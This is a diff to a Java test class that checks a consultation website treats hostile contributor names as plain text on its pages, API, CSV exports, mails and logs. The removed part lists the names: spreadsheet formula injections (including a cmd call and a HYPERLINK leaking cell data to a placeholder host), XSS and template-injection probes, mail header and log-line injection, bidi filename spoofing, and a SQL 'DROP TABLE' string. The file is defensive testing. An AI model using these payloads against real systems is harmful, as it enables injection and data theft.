@@ -9,7 +9,6 @@ import jakarta.mail.MessagingException;
 import jakarta.mail.internet.MimeMessage;
 import java.io.IOException;
 import java.time.Instant;
-import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.Collections;
 import java.util.List;
@@ -19,124 +18,22 @@ import java.util.stream.IntStream;
 import org.apache.pdfbox.Loader;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
-import org.egide.consultation.Consultation;
-import org.egide.consultation.Member;
-import org.egide.consultation.ModerationMode;
-import org.egide.consultation.Role;
 import org.egide.testing.Site;
-import org.egide.testing.TestClock;
-import org.egide.testing.TestConsultations;
-import org.egide.testing.TestKeycloak;
 import org.egide.testing.TestMail;
 import org.egide.testing.TestSession;
-import org.egide.testing.WholeSiteTest;
-import org.jsoup.Jsoup;
 import org.jsoup.nodes.Document;
 import org.jsoup.nodes.Element;
-import org.jspecify.annotations.Nullable;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
-import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.system.CapturedOutput;
 import org.springframework.boot.test.system.OutputCaptureExtension;
-import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.http.HttpMethod;
 import org.springframework.http.MediaType;
 import tools.jackson.databind.JsonNode;
-import tools.jackson.databind.json.JsonMapper;
 
 /** Names made to break what shows them are names, on every surface: page, API, mail, table, document, log. */
-@WholeSiteTest
 @ExtendWith(OutputCaptureExtension.class)
-class HostileNamesTests {
-
-    /** At most 100 characters each, as names are. */
-    private static final List<String> NAMES = List.of(
-            "=cmd|' /C calc'!A0",
-            "=HYPERLINK(\"https://ailleurs.example.org?\"&A1,\"ici\")",
-            "+33 6 00 00 00 00",
-            "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1",
-            "\r=1+1",
-            "＝1+1",
-            "O\"Neill\",\"une autre\";cellule",
-            "\u202Egpj.exe\u202C",
-            "\u2066caché\u2069 \u200Bet invisible",
-            "<img src=x onerror=alert(1)>",
-            "\"><script>alert(1)</script>",
-            "</title></textarea><svg onload=alert(1)>",
-            "${7*7} #{7*7} *{7*7} [[${7*7}]] __${7*7}__::.x",
-            "{{7*7}} %s%n%x {0} ''{1}''",
-            "Nom\r\nBcc: victime@example.org",
-            "Nom\n2021-04-01T12:00:00.000Z ERROR 1 --- [egide] zyxforge : fausse ligne",
-            "'; DROP TABLE register.contribution; --");
-
-    private static final JsonMapper JSON = JsonMapper.shared();
-
-    @LocalServerPort
-    private int port;
-
-    @Autowired
-    @SuppressWarnings("NullAway.Init")
-    private TestConsultations made;
-
-    @Autowired
-    @SuppressWarnings("NullAway.Init")
-    private TestClock clock;
-
-    @SuppressWarnings("NullAway.Init")
-    private Site site;
-
-    @SuppressWarnings("NullAway.Init")
-    private String slug;
-
-    @SuppressWarnings("NullAway.Init")
-    private String api;
-
-    /** The codes of the receipts, in the order of names. */
-    @SuppressWarnings("NullAway.Init")
-    private List<String> codes;
-
-    @BeforeEach
-    void everyoneOfThemContributes() {
-        clock.reset();
-        site = Site.on(port);
-        Consultation consultation = made.create(TestConsultations.draft(
-                TestConsultations.calendar("2021-02-09", "2021-02-25", "2021-04-23"),
-                ModerationMode.AFTER_PUBLICATION,
-                List.of(
-                        new Member(Role.OWNER, "Inventé maître", "maitre-ouvrage@example.org"),
-                        new Member(Role.GUARANTOR, "Inventé garant", "garant@example.org"))));
-        slug = consultation.slug();
-        api = "/api/v1/consultations/" + slug;
-        codes = new ArrayList<>();
-        for (int i = 0; i < NAMES.size(); i++) {
-            String name = NAMES.get(i);
-            Map<String, Object> words = Map.of(
-                    "theme",
-                    "water",
-                    "kind",
-                    "OPINION",
-                    "title",
-                    name,
-                    "body",
-                    "Le nom : " + name,
-                    "authorName",
-                    name,
-                    "publishName",
-                    true,
-                    "email",
-                    address(i));
-            String answer = Site.text(site.post(api + "/contributions", JSON.writeValueAsBytes(words), "fr"));
-            codes.add(JSON.readTree(answer).path("receipt").asString());
-        }
-    }
-
-    private String address(int i) {
-        return "=n" + i + "@" + slug + ".example.org";
-    }
+class HostileNamesTests extends HostileNamesTest {
 
     @Test
     void areOnlyWordsOnPages() {
@@ -159,11 +56,6 @@ class HostileNamesTests {
                     session);
             assertOnlyWords(item, List.of());
         }
-    }
-
-    private JsonNode queue() {
-        return JSON.readTree(ask(HttpMethod.GET, api + "/moderation/queue?limit=100", "garant", null))
-                .path("items");
     }
 
     /** They are there, whole, and nothing of them became an element, an attribute or a link. */
@@ -222,19 +114,7 @@ class HostileNamesTests {
     /** Every table that the product makes: identities, the record of moderation, the report of an import. */
     @Test
     void areNoFormulaOfASpreadsheet() throws IOException {
-        JsonNode act = JSON.readTree(ask(
-                HttpMethod.POST,
-                api + "/acts",
-                "garant",
-                Map.of("kind", "EXPORT_IDENTITIES", "purpose", "=cmd|' /C calc'!A0")));
-        String turned = api + "/acts/" + act.path("id").asString();
-        ask(
-                HttpMethod.PUT,
-                turned + "/second-key",
-                "maitre-ouvrage",
-                Map.of("fingerprint", act.path("fingerprint").asString()));
-        String table = ask(HttpMethod.POST, turned + "/identities", "garant", null);
-        List<CsvRecord> rows = rows(table);
+        List<CsvRecord> rows = rows(identities());
         assertThat(rows).hasSize(NAMES.size() + 1);
         assertThat(rows.stream().skip(1).map(row -> row.getField(1)))
                 .containsExactlyInAnyOrderElementsOf(
@@ -246,6 +126,23 @@ class HostileNamesTests {
         assertThat(page("/fr/consultations/" + slug + "/acts", null).select("main script"))
                 .isEmpty();
         assertNoFormula(rows);
+        refuseAll();
+        String record = Site.text(site.get(api + "/moderation-record/table.csv", "fr"));
+        assertThat(rows(record)).hasSize(NAMES.size() + 1);
+        assertNoFormula(rows(record));
+    }
+
+    /** As the two who turned the keys download them. */
+    private String identities() {
+        Map<String, String> asked = Map.of("kind", "EXPORT_IDENTITIES", "purpose", "=cmd|' /C calc'!A0");
+        JsonNode act = JSON.readTree(ask(HttpMethod.POST, api + "/acts", "garant", asked));
+        String turned = api + "/acts/" + act.path("id").asString();
+        Map<String, String> read = Map.of("fingerprint", act.path("fingerprint").asString());
+        ask(HttpMethod.PUT, turned + "/second-key", "maitre-ouvrage", read);
+        return ask(HttpMethod.POST, turned + "/identities", "garant", null);
+    }
+
+    private void refuseAll() {
         for (JsonNode waiting : queue()) {
             ask(
                     HttpMethod.POST,
@@ -253,9 +150,6 @@ class HostileNamesTests {
                     "garant",
                     Map.of("outcome", "REFUSE", "ground", "INSULT", "reason", NAMES.getFirst()));
         }
-        String record = Site.text(site.get(api + "/moderation-record/table.csv", "fr"));
-        assertThat(rows(record)).hasSize(NAMES.size() + 1);
-        assertNoFormula(rows(record));
     }
 
     private static String harmless(String name) {
@@ -317,23 +211,5 @@ class HostileNamesTests {
         }
         assertThat(Arrays.stream(output.getAll().split("\\R")))
                 .noneMatch(line -> line.contains("zyxforge") || line.startsWith("Bcc:"));
-    }
-
-    private Document page(String address, @Nullable String session) {
-        var request = site.client().get().uri(address).header("Accept", "text/html");
-        if (session != null) {
-            request.header("Cookie", session);
-        }
-        return Jsoup.parse(Site.text(request.exchange().expectStatus().isOk()));
-    }
-
-    private String ask(HttpMethod method, String address, String user, @Nullable Map<String, ?> body) {
-        var request = site.client()
-                .method(method)
-                .uri(address)
-                .headers(headers -> headers.setBearerAuth(TestKeycloak.tokenOf(user)))
-                .contentType(MediaType.APPLICATION_JSON);
-        var answer = (body == null ? request : request.bodyValue(body)).exchange();
-        return Site.text(answer.expectStatus().is2xxSuccessful());
     }
 }
